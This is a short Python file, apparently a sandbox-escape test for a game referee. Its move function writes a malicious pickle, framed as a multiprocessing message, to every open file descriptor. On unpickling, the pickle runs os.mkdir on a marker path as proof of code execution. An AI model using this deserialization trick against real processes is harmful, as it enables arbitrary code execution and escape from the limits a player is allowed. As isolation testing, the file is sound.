"""Writes a pickle that acts when it is loaded, framed as a multiprocessing connection would.

kind: wire
proof: touched
control: no: it needs a referee that unpickles
expect: garbage, crash, timeout
"""

import os
import pickle
import struct
from contextlib import suppress


class Bomb:
    def __reduce__(self):
        return os.mkdir, ("@FOLDER@/@MARK@",)


def move(position):
    data = pickle.dumps(Bomb())
    for descriptor in range(3, 256):
        with suppress(OSError):
            os.write(descriptor, struct.pack("!i", len(data)) + data)
    return position.legal_moves[0]
